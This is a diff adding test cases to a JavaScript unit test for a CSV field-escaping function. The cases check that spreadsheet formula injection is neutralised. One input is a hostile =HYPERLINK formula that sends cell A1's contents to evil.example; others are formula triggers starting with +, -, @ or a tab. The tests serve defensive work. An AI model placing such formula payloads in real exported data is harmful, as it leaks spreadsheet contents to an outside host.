@@ -12,6 +12,13 @@ describe('csvField', () => {
     ['line\r\nbreak', '"line\r\nbreak"'],
     ['“personally saw”', '“personally saw”'],
     ['', ''],
+    // Formula injection from a hostile note: spreadsheets must show it as text.
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
+    ['+1+2', "'+1+2"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1', "'\t=1"],
+    ['1936-12-18', '1936-12-18'],
   ];
   for (const [value, field] of cases) {
     it(`${JSON.stringify(value)} -> ${JSON.stringify(field)}`, () => assert.strictEqual(csvField(value), field));
